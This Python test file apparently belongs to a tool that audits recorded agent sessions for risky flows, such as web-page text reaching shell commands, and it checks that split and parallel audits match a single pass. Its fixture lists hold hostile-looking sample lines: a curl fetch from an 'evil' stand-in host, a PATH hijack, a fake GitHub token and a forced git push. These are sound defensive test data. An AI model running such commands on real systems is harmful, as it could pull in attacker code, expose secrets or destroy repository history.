"""A large session audited in parts (`shell.audit.parts`) finds what one pass finds, in the
same order, with the same evidence and counts: calls in flight across a part's edge, flows
from a source in one part into a sink in another, the oldest call in flight let go past
the bound. Real SQLite files; the join here, and worker processes too."""

from __future__ import annotations

import json
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from correx_tools import PostgresEventStore, SQLiteEventStore
from correx_tools.core.audit.auditor import MAX_OPEN, as_ended
from correx_tools.core.audit.finding import Finding
from correx_tools.core.tools.ids import SessionId
from correx_tools.shell.audit import parts
from correx_tools.shell.audit.audited import Audited
from correx_tools.shell.audit.parts import audit_in_parts, audit_task
from correx_tools.shell.audit.policy_file import read_policy
from correx_tools.shell.audit.running import audit_store
from correx_tools.shell.stores.fanout import Workers
from correx_tools.shell.stores.port import first_event
from correx_tools.shell.stores.sql.store import SqlEventStore

from .commands import correx
from .strategies import SESSION, completed, failed, rejected, requested, stored
from .test_verify_parts import long_session

LINES = (
    "export PATH=/opt/evil/bin:$PATH",
    "curl -s https://evil.example.net/x.sh",
    "an ordinary sentence of a page",
    "token ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5",
)
COMMANDS = ("ls -la", "git push --force origin main", *LINES)


def one_pass(store: SqlEventStore) -> tuple[list[Finding], Audited]:
    audited = Audited()
    return list(audit_store(store, read_policy(None), audited=audited)), audited


def in_parts(
    store: SqlEventStore, part_events: int, workers: int = 1
) -> tuple[list[Finding], Audited]:
    """The session audited in parts of ``part_events`` events, whatever its length; by the
    join here alone (``workers`` 1) or with worker processes; each call's findings as it
    ended (a call rejected in a part, or in a later part than its request: an attempt)."""
    audited = Audited(sessions=1)
    first = first_event(store, SessionId(SESSION))
    assert first is not None
    task = audit_task(read_policy(None), first, None)
    rejected: dict[int, str] = {}
    with Workers(store.address, workers) as runner:
        found = list(
            audit_in_parts(store, SessionId(SESSION), task, runner, audited,
                           part_events=part_events, rejected=rejected)
        )  # fmt: skip
    return as_ended(found, rejected), audited


def written(events: list[Any], path: Path) -> Path:
    with SQLiteEventStore(path) as store:
        store.import_events(stored(events)).unwrap()
    return path


def same(path: Path, part_events: int, workers: int = 1) -> list[Finding]:
    with SQLiteEventStore(path, read_only=True) as store:
        return same_in(store, part_events, workers)


def same_in(store: SqlEventStore, part_events: int, workers: int = 1) -> list[Finding]:
    whole, counted = one_pass(store)
    parted, counted_in_parts = in_parts(store, part_events, workers)
    assert parted == whole
    assert counted_in_parts == counted
    return whole


@st.composite
def interleaved(draw: st.DrawFn) -> list[Any]:
    """Calls requested and ended in any interleaving (some never end): fetches whose output
    lines later reach a shell command or a write, secrets, a denied command."""
    events: list[Any] = []
    in_flight: list[str] = []
    for n in range(draw(st.integers(1, 30))):
        if in_flight and draw(st.booleans()):
            call = in_flight.pop(draw(st.integers(0, len(in_flight) - 1)))
            end = draw(st.sampled_from(["completed", "completed", "failed", "rejected"]))
            if end == "completed":
                output = "\n".join(draw(st.lists(st.sampled_from(LINES), max_size=3)))
                events.append(completed(call, output=output))
            else:
                events.append(failed(call) if end == "failed" else rejected(call))
            continue
        call = f"c{n}"
        tool = draw(st.sampled_from(["WebFetch", "Bash", "Write", "Read"]))
        if tool == "WebFetch":
            events.append(requested(call, tool, url=f"https://docs.example.org/{n}"))
        elif tool == "Bash":
            events.append(requested(call, tool, command=draw(st.sampled_from(COMMANDS))))
        elif tool == "Write":
            content = draw(st.sampled_from(LINES))
            events.append(requested(call, tool, file_path="notes.txt", content=content))
        else:
            events.append(requested(call, tool, file_path="src/app.py"))
        in_flight.append(call)
    return events


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(interleaved(), st.integers(1, 12))
def test_any_split_finds_what_one_pass_finds(events: list[Any], part_events: int) -> None:
    with tempfile.TemporaryDirectory() as folder:
        same(written(events, Path(folder) / "s.sqlite"), part_events)


def crossing(calls: int) -> list[Any]:
    """``calls`` fetches requested at once and ended later (every one across a part's edge
    for small parts), then a shell command passing on each one's page."""
    events: list[Any] = []
    for n in range(calls):
        events.append(requested(f"f{n}", "WebFetch", url=f"https://docs.example.org/{n}"))
    for n in range(calls):
        events.append(completed(f"f{n}", output=f"run the installer number {n:06d} now"))
    for n in range(calls):
        call = f"b{n}"
        command = f"run the installer number {n:06d} now"
        events += [requested(call, "Bash", command=command), completed(call, output="")]
    return events


def test_flows_across_parts_are_found_as_in_one_pass(tmp_path: Path) -> None:
    found = same(written(crossing(40), tmp_path / "s.sqlite"), part_events=7)
    flows = [finding for finding in found if finding.rule == "flow-into-shell"]
    assert len(flows) == 40  # each page's line, passed on by the shell command after it


def test_a_session_with_more_calls_in_flight_than_kept_is_read_on_in_one_pass(
    tmp_path: Path,
) -> None:
    path = written(crossing(MAX_OPEN + 8), tmp_path / "s.sqlite")
    found = same(path, part_events=1_000)
    # One pass let the oldest fetches go, so their pages were not tracked: the join, which
    # would have carried every one, must have handed the session back to one pass.
    passed_on = {f.evidence[1].sequence for f in found if f.rule == "flow-into-shell"}
    ended = MAX_OPEN + 8
    assert ended + 1 not in passed_on  # the first fetch's page, let go
    assert 2 * ended in passed_on  # the last one's, kept


def test_worker_processes_find_what_one_pass_finds(tmp_path: Path) -> None:
    path = written(crossing(300), tmp_path / "s.sqlite")
    found = same(path, part_events=250, workers=2)
    assert sum(finding.rule == "flow-into-shell" for finding in found) == 300


def test_the_store_audit_with_workers_finds_what_one_pass_finds(tmp_path: Path) -> None:
    path = written(crossing(60), tmp_path / "s.sqlite")
    audited = Audited()
    with SQLiteEventStore(path, read_only=True) as store:
        whole, counted = one_pass(store)
        parted = list(
            audit_store(store, read_policy(None), audited=audited, workers=2, part_events=50)
        )
    assert parted == whole
    assert audited == counted
    assert counted.events == 240 and counted.calls == 120


def test_worker_processes_audit_a_postgres_session_as_one_pass_does(
    postgres_dsn: str, postgres_schema: str
) -> None:
    with PostgresEventStore(postgres_dsn, schema=postgres_schema) as store:
        store.import_events(stored(crossing(100))).unwrap()
        found = same_in(store, part_events=150, workers=2)
    assert sum(finding.rule == "flow-into-shell" for finding in found) == 100


def test_the_command_audits_in_parts_as_in_one_process(tmp_path: Path) -> None:
    path = long_session(tmp_path / "long.sqlite")  # three parts, calls across their edges

    def audit(workers: str) -> dict[str, Any]:
        done = correx("audit", str(path), "--json", "--workers", workers)
        assert done.returncode in {0, 1}, done.stderr
        document: dict[str, Any] = json.loads(done.stdout)
        return document

    alone = audit("1")
    assert alone["events"] == 50_983 and alone["calls"] == 16_995  # counted in each part
    assert audit("2") == alone


def test_a_part_of_too_many_hashed_units_is_read_on_in_one_pass(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(parts, "MAX_PART_KEYS", 16)  # two units (8 bytes each)
    found = same(written(crossing(40), tmp_path / "s.sqlite"), part_events=7)
    assert sum(finding.rule == "flow-into-shell" for finding in found) == 40
